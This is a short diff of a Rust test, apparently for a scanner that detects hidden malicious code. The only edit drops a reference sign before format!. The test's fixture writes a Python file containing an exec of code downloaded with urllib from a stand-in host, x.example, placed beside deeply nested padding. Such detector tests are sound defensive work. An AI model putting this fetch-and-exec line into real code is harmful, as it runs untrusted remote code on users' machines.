@@ -780,7 +780,7 @@ fn code_nested_too_deep_hides_nothing_beside_it() {
     write(
         dir.path(),
         "deep.py",
-        &format!(
+        format!(
             "import urllib.request\npad = {chain}\nexec(urllib.request.urlopen(\"https://x.example/a\").read())\n"
         ),
     );
